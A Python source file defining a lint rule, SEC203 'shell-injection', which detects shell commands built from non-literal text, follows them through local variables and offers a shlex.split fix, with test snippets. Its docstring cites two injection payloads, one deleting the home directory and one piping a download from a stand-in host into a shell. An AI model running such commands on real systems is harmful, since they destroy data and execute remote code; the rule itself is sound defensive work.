"""SEC203 shell-injection."""

from __future__ import annotations

import ast
from collections.abc import Iterator

import libcst as cst

from expert_lsp.analysis import syntax
from expert_lsp.analysis.context import NodeContext
from expert_lsp.analysis.cst import UnitTree
from expert_lsp.analysis.dataflow import BindingKind, LocalFlow, flow_at
from expert_lsp.analysis.findings import Finding, Severity
from expert_lsp.analysis.rule import FixRequest, FixResult, Invalid, Rule, Valid
from expert_lsp.rules._rewrites import drop_keyword

_SHELL_OPTIONAL = frozenset(
    {"subprocess.run", "subprocess.call", "subprocess.check_call", "subprocess.check_output"}
    | {"subprocess.Popen"}
)
_ALWAYS_SHELL = frozenset(
    {"os.system", "os.popen", "subprocess.getoutput", "subprocess.getstatusoutput"}
    | {"asyncio.create_subprocess_shell"}
)
_QUOTERS = frozenset({"shlex.quote", "shlex.join", "pipes.quote"})


def is_shell_safe(node: ast.expr, flow: LocalFlow, context: NodeContext, depth: int = 0) -> bool:
    """Text fixed in the source, or built only from literals and ``shlex.quote``d values."""
    if depth > 8 or flow.is_literal(node):
        return True

    def safe(child: ast.expr) -> bool:
        return is_shell_safe(child, flow, context, depth + 1)

    match node:
        case ast.Call(func=func) if context.qualified_name(func) in _QUOTERS:
            return True
        case ast.JoinedStr(values=values):
            return all(safe(v.value if isinstance(v, ast.FormattedValue) else v) for v in values)
        case ast.BinOp(left=left, right=right):
            return safe(left) and safe(right)
        case ast.Tuple(elts=elts) | ast.List(elts=elts):
            return all(safe(e) for e in elts)
        case ast.Name(id=name) if name not in flow.parameters:
            reaching = flow.bindings_before(name, node)
            plain = {BindingKind.ASSIGN, BindingKind.AUGMENT}
            return bool(reaching) and all(
                b.kind in plain and b.value is not None and safe(b.value) for b in reaching
            )
    return False


class ShellInjection(Rule):
    """A command built from non-literal text runs through a shell.

    With `shell=True`, `os.system` or `os.popen`, the shell parses the whole string: a value
    containing `; rm -rf ~` or `$(curl evil | sh)` runs as a command. The rule follows the
    command through local variables, `+`, `+=` and f-strings, and stays quiet for text fixed
    in the source and for values passed through `shlex.quote`.

    **Bad**

    ```python
    def thumbnail(path: str) -> None:
        subprocess.run(f"convert {path} -resize 64x64 thumb.png", shell=True, check=True)
    ```

    **Good**

    ```python
    def thumbnail(path: str) -> None:
        subprocess.run(["convert", path, "-resize", "64x64", "thumb.png"], check=True)
    ```

    **Fix**: pass an argument list and no shell: `subprocess.run(shlex.split(cmd))` (offered,
    not applied by fix-all: pipes, globs and `&&` in the command stop working).
    """

    id = "SEC203"
    name = "shell-injection"
    aliases = ("S602", "S604", "S605")
    severity = Severity.ERROR
    message = "`{call}` runs a non-literal command through a shell"
    node_types = (ast.Call,)
    fix_title = "Split the command with `shlex.split` and drop the shell"

    valid = (
        Valid("import subprocess\n\ndef f(p):\n    subprocess.run(['ls', p], check=True)\n"),
        Valid(
            "import os\n\ndef f():\n    cmd = 'ls -la'\n    cmd += ' /tmp'\n    os.system(cmd)\n"
        ),
        Valid("import os, shlex\n\ndef f(p):\n    os.system(f'ls {shlex.quote(p)}')\n"),
        Valid("import subprocess\n\ndef f(c):\n    subprocess.run(c, shell=False)\n"),
        Valid("import subprocess\n\nsubprocess.run(BUILD_CMD, shell=True)\n"),
    )
    invalid = (
        Invalid(
            "import subprocess\n\ndef f(p):\n    subprocess.run(f'ls {p}', shell=True)\n",
            line=4,
            fixed="import subprocess\nimport shlex\n\ndef f(p):\n"
            "    subprocess.run(shlex.split(f'ls {p}'))\n",
        ),
        Invalid(
            "import os\n\ndef f(name):\n    cmd = 'rm '\n    cmd += name\n    os.system(cmd)\n",
            line=6,
            fixed="import os\nimport shlex\nimport subprocess\n\ndef f(name):\n    cmd = 'rm '\n"
            "    cmd += name\n    subprocess.call(shlex.split(cmd))\n",
        ),
        Invalid("import os\n\ndef f(h):\n    return os.popen('ping -c1 ' + h).read()\n", line=4),
    )

    def visit(self, node: ast.AST, context: NodeContext) -> Iterator[Finding]:
        assert isinstance(node, ast.Call)
        qualified = context.qualified_name(node.func)
        if qualified in _SHELL_OPTIONAL:
            if not syntax.is_constant(syntax.keyword(node, "shell"), True):
                return
        elif qualified not in _ALWAYS_SHELL:
            return
        command = node.args[0] if node.args else syntax.keyword(node, "args")
        if command is None or is_shell_safe(command, flow_at(context), context):
            return
        can_fix = qualified in _SHELL_OPTIONAL or qualified == "os.system"
        message = self.message.format(call=qualified)
        yield self.finding(node, context, message, fix=can_fix and bool(node.args))

    def fix(self, request: FixRequest) -> FixResult | None:
        tree = UnitTree(request.unit_text)
        call = tree.find(request.finding.span, cst.Call)
        if call is None or not call.args:
            return None
        split = cst.Call(
            cst.Attribute(cst.Name("shlex"), cst.Name("split")), [cst.Arg(call.args[0].value)]
        )
        new = drop_keyword(call, "shell")
        new = new.with_changes(args=[new.args[0].with_changes(value=split), *new.args[1:]])
        imports: tuple[str, ...] = ("import shlex",)
        if "os.system" in request.finding.message:
            new = new.with_changes(func=cst.Attribute(cst.Name("subprocess"), cst.Name("call")))
            imports = ("import shlex", "import subprocess")
        return FixResult(tree.replace(call, new), imports=imports)
